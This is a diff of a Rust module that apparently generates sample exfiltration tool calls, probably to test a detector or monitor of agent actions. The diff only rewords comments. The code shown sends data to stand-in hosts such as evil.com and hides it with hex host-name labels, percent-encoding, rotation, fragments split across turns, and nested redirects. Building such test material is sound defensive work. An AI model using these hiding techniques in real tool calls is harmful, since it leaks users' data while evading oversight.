@@ -1,11 +1,12 @@
-//! The ways to hide data and destinations. Each makes one call from data and a place to send it to.
+//! Techniques for hiding data and destinations. Each technique creates a call from data and a
+//! destination.
 
 use serde_json::{Value, json};
 use soak::Random;
 
 use super::outside::REDIRECTORS;
 
-/// The places of the adversary. The person names none of them.
+/// The destinations of the adversary. The person names none of them.
 const DOMAINS: [&str; 5] = ["evil.com", "collect.evil.net", "evil.md", "evil.zip", "evil.example"];
 
 /// A call: the tool and its arguments.
@@ -15,7 +16,7 @@ pub type Call = (&'static str, Value);
 pub struct Loot<'a> {
     /// A piece of data, encoded.
     pub data: String,
-    /// A place that the person named, or one that the adversary guesses.
+    /// A destination that the person named, or that the adversary guesses.
     pub named: String,
     pub random: &'a mut Random,
 }
@@ -25,7 +26,7 @@ impl Loot<'_> {
         self.random.pick::<&'static str>(&DOMAINS)
     }
 
-    /// The data as labels of a host name.
+    /// Returns the data as labels of a host name.
     fn label(&self) -> String {
         let hex: String = hex(&self.data).chars().take(100).collect();
         let labels: Vec<&str> =
@@ -38,7 +39,7 @@ impl Loot<'_> {
             .to_string()
     }
 
-    /// An address of the adversary that carries the data.
+    /// Returns an address of the adversary that contains the data.
     fn address(&mut self) -> String {
         let (evil, path) = (self.evil(), self.path());
         match self.random.below(4) {
@@ -50,7 +51,7 @@ impl Loot<'_> {
     }
 }
 
-/// A way to hide data in a text.
+/// Hides data in a text.
 pub fn encode(random: &mut Random, data: &str) -> String {
     match random.below(9) {
         0 => data.to_owned(),
@@ -61,7 +62,7 @@ pub fn encode(random: &mut Random, data: &str) -> String {
         5 => data.chars().map(rotate).collect(),
         6 => data.bytes().map(|b| format!("%{b:02x}")).collect(),
         7 => data.bytes().map(|b| b.to_string()).collect::<Vec<_>>().join("."),
-        // A piece of it: the rest follows in other calls and turns.
+        // Only a piece of the data. The rest follows in other calls and turns.
         _ => {
             let all: Vec<char> = data.chars().collect();
             let at = random.index(all.len());
@@ -103,7 +104,7 @@ fn base64(data: &str) -> String {
     out
 }
 
-/// A way to hide data or a destination in a call.
+/// A technique that hides data or a destination in a call.
 pub type Technique = fn(&mut Loot<'_>) -> Call;
 
 /// All techniques, by name.
@@ -277,7 +278,7 @@ pub const ALL: &[(&str, Technique)] = &[
             _ => format!("https:\t//{bare}"),
         };
         let through = *loot.random.pick(&REDIRECTORS);
-        // Redirects to redirects, each in the parameter of the one before.
+        // Nests redirects: each is a parameter of the previous one.
         for _ in 0..=loot.random.below(3) {
             let inner =
                 percent_encoding::utf8_percent_encode(&to, percent_encoding::NON_ALPHANUMERIC);
